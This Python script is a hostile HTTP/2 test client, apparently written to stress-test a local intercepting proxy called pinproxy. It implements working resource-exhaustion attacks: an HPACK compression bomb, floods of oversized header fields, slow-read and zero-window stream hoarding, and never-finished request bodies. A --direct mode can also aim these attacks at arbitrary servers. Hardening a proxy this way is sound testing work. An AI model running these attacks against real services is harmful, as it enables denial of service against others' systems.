#!/usr/bin/env python3
"""A hostile HTTP/2 client for pinproxy's interception: the frames the `h2`
package would refuse to send are written by hand (9-byte frame header +
payload, HPACK blocks built byte by byte), and the replies are parsed by hand
too (`hpack.Decoder` for header blocks), so nothing the peer does (too many
streams, resets, GOAWAY, a closed socket) stops the script: it reports it.

  h2_hostile_client.py (--proxy PORT --ca CA.pem --host HOST
                        | --direct HOST:PORT [--insecure] [--host SNI])
      [--path /] [--timeout 10] [--linger 0.5] --attack NAME [mode flags]

The connection: CONNECT HOST:443 to 127.0.0.1:PORT, then TLS with ALPN h2
trusting --ca, SNI = HOST (as h2_client.py does); or with --direct straight to
a TLS h2 server (--insecure skips certificate verification). The client sends
the preface and its SETTINGS first, then reads the server's SETTINGS (acks
it, honours its SETTINGS_MAX_FRAME_SIZE) before any stream.

Attacks, each printing one JSON object on stdout:

  many-fields [--count 150]      one GET with N extra fields x-a1: 1, ...
  big-fields [--count 50 --size 4000]   one GET with N fields of S-byte values
      -> {"status": int|null, "reset": code|null, "goaway": code|null,
          "goaway_last_stream", "closed", "bytes_sent", "header_block_bytes"}

  hpack-bomb [--streams 4 --refs 13000 --continuation]
      the first block inserts x-bomb: A*4000 (literal with incremental
      indexing), every block then references it R times (0xBE = index 62).
      Without --continuation each block is one HEADERS frame, so R is cut to
      what fits in the server's max frame size (see "refs"); with it, blocks
      are split into HEADERS + CONTINUATION frames of <= 16,000 bytes.
      -> {"streams": {"1": {"status", "reset"}, ...}, "goaway", "goaway_last_stream",
          "closed", "bytes_sent", "refs": [per stream], "header_block_bytes": [...]}

  slow-streams [--streams N --hold S --connections C]
      N GETs of --path per connection, then nothing is read for S seconds;
      afterwards every reply is read (up to --timeout).
      -> {"opened", "connections", "status_counts": {"200": x, "503": y},
          "resets": {"7": z}, "no_response", "goaways": {"0": n}, "errors": [...]}

  zero-window [--streams N --hold S]
      SETTINGS_INITIAL_WINDOW_SIZE=0 and no WINDOW_UPDATE ever; frames are
      read (PING and SETTINGS answered) for S seconds.
      -> {"opened", "headers", "status_counts", "resets", "data_bytes",
          "goaway", "closed", "closed_at"}

  incomplete-body [--streams N --hold S]
      N POSTs with content-length: 100 and 10 bytes of DATA, never ended;
      waits up to S seconds for each to be answered.
      -> {"streams": {"1": {"status", "status_at", "reset", "reset_at"}, ...},
          "goaway", "goaway_at", "closed", "closed_at"}   (times: seconds after sending)

Common keys when they happen: "server_settings", "send_error",
"compression_error", "connect_error".
"""
import argparse
import json
import socket
import ssl
import sys
import threading
import time

import hpack

from h2frames import (  # the module beside this script
    ACK,
    CHUNK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PREFACE,
    PRIORITY_FLAG,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    SETTINGS_ENABLE_PUSH,
    SETTINGS_INITIAL_WINDOW_SIZE,
    SETTINGS_MAX_FRAME_SIZE,
    WINDOW_UPDATE,
    frame,
    header_frames,
    literal,
    literal_name_index,
    request_block,
    settings_frame,
)

def open_tls(args):
    if args.direct:
        host, _, port = args.direct.rpartition(":")
        sni = args.host or host
        sock = socket.create_connection((host, int(port)), timeout=args.timeout)
    else:
        sni = args.host
        sock = socket.create_connection(("127.0.0.1", args.proxy), timeout=args.timeout)
        sock.sendall(f"CONNECT {sni}:443 HTTP/1.1\r\nHost: {sni}:443\r\n\r\n".encode())
        reply = b""
        while b"\r\n\r\n" not in reply:
            chunk = sock.recv(4096)
            if not chunk:
                raise ConnectionError("proxy closed the CONNECT")
            reply += chunk
        if b" 200 " not in reply.split(b"\r\n")[0] + b" ":
            raise ConnectionError(f"CONNECT refused: {reply[:200]!r}")
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if args.insecure:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    else:
        context = ssl.create_default_context(cafile=args.ca)
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(sock, server_hostname=sni)
    if tls.selected_alpn_protocol() != "h2":
        raise ConnectionError(f"ALPN chose {tls.selected_alpn_protocol()}")
    return tls, sni


class Peer:
    """One h2 connection, read and written by hand."""

    def __init__(self, tls, timeout):
        self.tls = tls
        self.timeout = timeout
        self.buffer = bytearray()
        self.bytes_sent = 0
        self.max_frame = 16384
        self.server_settings = {}
        self.decoder = hpack.Decoder(max_header_list_size=1 << 31)
        self.streams = {}
        self.goaway = None
        self.goaway_last = None
        self.goaway_at = None
        self.closed = False
        self.closed_at = None
        self.data_bytes = 0
        self.ack_data = True  # WINDOW_UPDATE for what DATA consumed
        self.pending = None  # [stream, flags, block] until END_HEADERS
        self.notes = {}
        self.t0 = time.time()

    def since(self):
        return round(time.time() - self.t0, 3)

    def send(self, data):
        """Writes in slices so bytes_sent counts what got out before an error."""
        try:
            self.tls.settimeout(self.timeout)
            for i in range(0, len(data), 16384):
                self.tls.sendall(data[i:i + 16384])
                self.bytes_sent += len(data[i:i + 16384])
            return True
        except (OSError, ssl.SSLError) as error:
            self.notes.setdefault("send_error", str(error) or type(error).__name__)
            return False

    def stream(self, stream_id):
        return self.streams.setdefault(stream_id, {"status": None, "reset": None})

    def start(self, extra_settings=()):
        self.send(PREFACE + settings_frame([(SETTINGS_ENABLE_PUSH, 0), *extra_settings]))
        self.pump(lambda: "server_settings" in self.notes, time.time() + self.timeout)
        self.notes.pop("server_settings", None)

    def _recv(self, deadline):
        remaining = deadline - time.time()
        if remaining <= 0:
            return False
        self.tls.settimeout(remaining)
        try:
            data = self.tls.recv(65536)
        except (socket.timeout, TimeoutError):
            return False
        except (OSError, ssl.SSLError) as error:
            self.notes.setdefault("recv_error", str(error) or type(error).__name__)
            data = b""
        if not data:
            self.closed = True
            self.closed_at = self.since()
            return False
        self.buffer += data
        return True

    def pump(self, done, deadline):
        """Handles frames until done(), the deadline, or the connection ends."""
        while not done() and not self.closed:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                head, payload = bytes(self.buffer[:9]), bytes(self.buffer[9:9 + length])
                del self.buffer[:9 + length]
                self.handle(head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload)
                if done():
                    return
            if "compression_error" in self.notes or not self._recv(deadline):
                return

    def handle(self, kind, flags, stream, payload):
        if kind == SETTINGS:
            if flags & ACK:
                return
            for i in range(0, len(payload) - 5, 6):
                key, value = int.from_bytes(payload[i:i + 2], "big"), int.from_bytes(payload[i + 2:i + 6], "big")
                self.server_settings[str(key)] = value
                if key == SETTINGS_MAX_FRAME_SIZE:
                    self.max_frame = value
            self.notes["server_settings"] = True
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING:
            if not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            self.goaway_last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            self.goaway = int.from_bytes(payload[4:8], "big")
            self.goaway_at = self.since()
            if payload[8:]:
                self.notes["goaway_debug"] = payload[8:200].decode("latin-1")
        elif kind == RST_STREAM:
            entry = self.stream(stream)
            entry["reset"] = int.from_bytes(payload[:4], "big")
            entry["reset_at"] = self.since()
        elif kind == DATA:
            entry = self.stream(stream)
            body = payload
            if flags & PADDED and payload:
                body = payload[1:len(payload) - payload[0]]
            self.data_bytes += len(body)
            entry["body"] = entry.get("body", 0) + len(body)
            if flags & END_STREAM:
                entry["ended"] = True
            if self.ack_data and payload:
                self.send(frame(WINDOW_UPDATE, 0, 0, len(payload).to_bytes(4, "big"))
                          + frame(WINDOW_UPDATE, 0, stream, len(payload).to_bytes(4, "big")))
        elif kind in (HEADERS, PUSH_PROMISE):
            block = payload
            if flags & PADDED and block:
                block = block[1:len(block) - block[0]]
            if kind == PUSH_PROMISE:
                block = block[4:]
            elif flags & PRIORITY_FLAG:
                block = block[5:]
            self.pending = [stream, flags, bytearray(block), kind]
            if flags & END_HEADERS:
                self.finish_headers()
        elif kind == CONTINUATION and self.pending:
            self.pending[2] += payload
            if flags & END_HEADERS:
                self.finish_headers()

    def finish_headers(self):
        stream, flags, block, kind = self.pending
        self.pending = None
        try:
            headers = self.decoder.decode(bytes(block), raw=True)
        except Exception as error:  # any HPACK failure ends the connection
            self.notes["compression_error"] = f"{type(error).__name__}: {error}"
            return
        if kind == PUSH_PROMISE:
            return
        entry = self.stream(stream)
        status = dict(headers).get(b":status")
        if status and entry["status"] is None and not status.startswith(b"1"):
            entry["status"] = int(status)
            entry["status_at"] = self.since()
            entry["header_bytes"] = sum(len(n) + len(v) for n, v in headers)
        if flags & END_STREAM:
            entry["ended"] = True

    def settle(self, linger):
        """After the streams resolved: a GOAWAY often follows a reset."""
        if self.goaway is None and not self.closed:
            self.pump(lambda: self.goaway is not None, time.time() + linger)

    def resolved(self, stream):
        entry = self.streams.get(stream)
        if self.goaway_last is not None and stream > self.goaway_last:
            return True
        return bool(entry) and (entry["reset"] is not None or entry.get("ended"))

    def report(self):
        out = {"goaway": self.goaway, "goaway_last_stream": self.goaway_last, "closed": self.closed,
               "bytes_sent": self.bytes_sent}
        out.update({k: v for k, v in self.notes.items() if k != "server_settings"})
        out["server_settings"] = self.server_settings
        return out

    def close(self):
        try:
            self.tls.close()
        except OSError:
            pass


def connect(args, extra_settings=()):
    tls, sni = open_tls(args)
    peer = Peer(tls, args.timeout)
    peer.start(extra_settings)
    return peer, sni


# --- Attacks -----------------------------------------------------------------

def single_stream(args, fields):
    peer, host = connect(args)
    block = request_block("GET", host, args.path) + b"".join(fields)
    peer.t0 = time.time()
    peer.send(header_frames(1, block, True, min(peer.max_frame, 16384)))
    peer.pump(lambda: peer.resolved(1), time.time() + args.timeout)
    peer.settle(args.linger)
    entry = peer.stream(1)
    result = {"status": entry["status"], "reset": entry["reset"]}
    result.update(peer.report())
    result["header_block_bytes"] = len(block)
    peer.close()
    return result


def many_fields(args):
    return single_stream(args, [literal(f"x-a{i}", "1", indexing=True) for i in range(1, args.count + 1)])


def big_fields(args):
    count = args.count if args.count is not None else 50
    return single_stream(args, [literal(f"x-b{i}", "B" * args.size, indexing=True) for i in range(1, count + 1)])


def hpack_bomb(args):
    peer, host = connect(args)
    insert = literal("x-bomb", "A" * 4000, indexing=True)  # becomes index 62
    chunk = min(CHUNK, peer.max_frame, 16384)
    frames, refs, sizes, ids = [], [], [], []
    for n in range(args.streams):
        stream = 2 * n + 1
        block = request_block("GET", host, args.path) + (insert if n == 0 else b"")
        count = args.refs
        if not args.continuation:
            count = max(0, min(count, min(peer.max_frame, 16384) - len(block)))
        block += b"\xbe" * count
        ids.append(stream)
        refs.append(count)
        sizes.append(len(block))
        frames.append(header_frames(stream, block, True, chunk if args.continuation else 16384))
    peer.t0 = time.time()
    for data in frames:
        if not peer.send(data):
            break
    peer.pump(lambda: all(peer.resolved(s) for s in ids), time.time() + args.timeout)
    peer.settle(args.linger)
    result = {"streams": {str(s): {"status": peer.stream(s)["status"], "reset": peer.stream(s)["reset"]}
                          for s in ids}}
    result.update(peer.report())
    result.update({"refs": refs, "header_block_bytes": sizes, "continuation": args.continuation})
    peer.close()
    return result


def open_gets(peer, host, path, count):
    ids = []
    for n in range(count):
        stream = 2 * n + 1
        if not peer.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, request_block("GET", host, path))):
            break
        ids.append(stream)
    return ids


def slow_connection(args, results, index):
    try:
        peer, host = connect(args)
    except (OSError, ssl.SSLError) as error:
        results[index] = {"connect_error": str(error)}
        return
    peer.t0 = time.time()
    ids = open_gets(peer, host, args.path, args.streams)
    time.sleep(args.hold)  # nothing is read meanwhile
    peer.pump(lambda: all(peer.resolved(s) for s in ids), time.time() + args.timeout)
    peer.settle(args.linger)
    results[index] = {"ids": ids, "streams": {s: dict(peer.stream(s)) for s in ids}, **peer.report()}
    peer.close()


def slow_streams(args):
    results = [None] * args.connections
    threads = [threading.Thread(target=slow_connection, args=(args, results, i)) for i in range(args.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    out = {"opened": 0, "connections": args.connections, "status_counts": {}, "resets": {}, "no_response": 0,
           "goaways": {}, "errors": []}
    for result in results:
        if result is None or "connect_error" in result:
            out["errors"].append((result or {}).get("connect_error", "thread failed"))
            continue
        out["opened"] += len(result["ids"])
        for entry in result["streams"].values():
            if entry["status"] is not None:
                key = str(entry["status"])
                out["status_counts"][key] = out["status_counts"].get(key, 0) + 1
            if entry["reset"] is not None:
                key = str(entry["reset"])
                out["resets"][key] = out["resets"].get(key, 0) + 1
            if entry["status"] is None and entry["reset"] is None:
                out["no_response"] += 1
        if result["goaway"] is not None:
            key = str(result["goaway"])
            out["goaways"][key] = out["goaways"].get(key, 0) + 1
        for key in ("send_error", "recv_error", "compression_error"):
            if key in result:
                out["errors"].append(result[key])
    return out


def counts(entries, key):
    out = {}
    for entry in entries:
        if entry[key] is not None:
            out[str(entry[key])] = out.get(str(entry[key]), 0) + 1
    return out


def zero_window(args):
    peer, host = connect(args, [(SETTINGS_INITIAL_WINDOW_SIZE, 0)])
    peer.ack_data = False  # no WINDOW_UPDATE, ever
    peer.t0 = time.time()
    ids = open_gets(peer, host, args.path, args.streams)
    peer.pump(lambda: False, time.time() + args.hold)
    entries = [peer.stream(s) for s in ids]
    result = {"opened": len(ids), "headers": sum(1 for e in entries if e["status"] is not None),
              "status_counts": counts(entries, "status"), "resets": counts(entries, "reset"),
              "data_bytes": peer.data_bytes, "closed_at": peer.closed_at}
    result.update(peer.report())
    peer.close()
    return result


def incomplete_body(args):
    peer, host = connect(args)
    ids, out = [], b""
    for n in range(args.streams):
        stream = 2 * n + 1
        block = request_block("POST", host, args.path) + literal_name_index(28, "100")  # content-length
        out += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"0123456789")
        ids.append(stream)
    peer.t0 = time.time()
    peer.send(out)
    peer.pump(lambda: all(peer.resolved(s) for s in ids), time.time() + args.hold)
    peer.settle(args.linger)
    streams = {}
    for s in ids:
        entry = peer.stream(s)
        streams[str(s)] = {"status": entry["status"], "status_at": entry.get("status_at"),
                           "reset": entry["reset"], "reset_at": entry.get("reset_at")}
    result = {"streams": streams}
    result.update(peer.report())
    result.update({"goaway_at": peer.goaway_at, "closed_at": peer.closed_at})
    peer.close()
    return result


ATTACKS = {"many-fields": many_fields, "big-fields": big_fields, "hpack-bomb": hpack_bomb,
           "slow-streams": slow_streams, "zero-window": zero_window, "incomplete-body": incomplete_body}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--proxy", type=int)
    parser.add_argument("--ca")
    parser.add_argument("--host")
    parser.add_argument("--direct", metavar="HOST:PORT")
    parser.add_argument("--insecure", action="store_true")
    parser.add_argument("--path", default="/")
    parser.add_argument("--timeout", type=float, default=10)
    parser.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    parser.add_argument("--count", type=int)
    parser.add_argument("--size", type=int, default=4000)
    parser.add_argument("--streams", type=int)
    parser.add_argument("--refs", type=int, default=13000)
    parser.add_argument("--continuation", action="store_true")
    parser.add_argument("--hold", type=float, default=5)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--linger", type=float, default=0.5,
                        help="seconds to keep reading for a GOAWAY once every stream is answered or reset")
    args = parser.parse_args()
    if not args.direct and (args.proxy is None or not args.ca or not args.host):
        parser.error("--proxy, --ca and --host are needed unless --direct is given")
    if args.attack == "many-fields" and args.count is None:
        args.count = 150
    if args.streams is None:
        args.streams = 4 if args.attack == "hpack-bomb" else 10
    try:
        result = ATTACKS[args.attack](args)
    except (OSError, ssl.SSLError) as error:
        result = {"connect_error": str(error) or type(error).__name__}
    print(json.dumps(result))


if __name__ == "__main__":
    sys.exit(main())
